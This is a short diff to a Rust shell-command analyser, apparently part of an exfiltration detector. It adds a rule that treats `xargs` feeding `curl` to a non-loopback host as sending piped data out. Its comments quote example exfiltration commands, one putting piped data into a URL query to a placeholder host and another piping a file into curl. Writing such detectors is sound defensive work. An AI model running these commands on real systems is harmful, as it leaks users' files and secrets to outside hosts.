@@ -162,6 +162,15 @@ pub(super) fn sent(analysis: &ShellAnalysis, i: usize, scope: &Scope, writes: &W
     if !substituted.is_empty() {
         items.push(Payload::Output(line.source(substituted)));
     }
+    // `… | xargs -I{} curl "https://x/?d={}"`: the arguments are made of what is piped in,
+    // as a DNS name is (`lookup`).
+    if c.args_from_stdin
+        && !to_loopback(c)
+        && let Some(j) = c.stdin_from
+    {
+        items.push(Payload::Output(line.source(vec![j])));
+        data = true;
+    }
     // An HTTP client fed on its input is taken to send it (`cat f | curl URL`).
     if matches!(
         c.program.as_str(),
